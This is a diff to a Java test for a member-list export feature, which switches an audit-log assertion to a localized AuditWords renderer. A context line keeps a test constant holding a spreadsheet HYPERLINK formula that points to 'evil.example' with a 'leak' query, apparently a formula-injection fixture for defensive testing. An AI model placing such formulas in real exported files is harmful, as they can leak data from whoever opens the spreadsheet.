@@ -30,6 +30,8 @@ class MemberListExportTest extends SpaceTestSupport {
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak\",\"Hélène\")";
 
     @Autowired
+    org.essaim.audit.AuditWords words;
+    @Autowired
     DataDirectory dataDirectory;
 
     @Test
@@ -96,7 +98,7 @@ class MemberListExportTest extends SpaceTestSupport {
                 .and(AUDIT_EVENT.TARGET.eq("space:" + slug)).fetch();
         assertThat(exports).hasSize(3).allSatisfy(event -> {
             assertThat(event.getActor()).isEqualTo("camille.referente@" + slug);
-            assertThat(event.getDetail()).as("counts, no personal data")
+            assertThat(words.detail(org.essaim.audit.AuditLog.event(event), java.util.Locale.ENGLISH)).as("counts, no personal data")
                     .isEqualTo("3 accounts, 2 invitations and sign-ups");
         });
     }
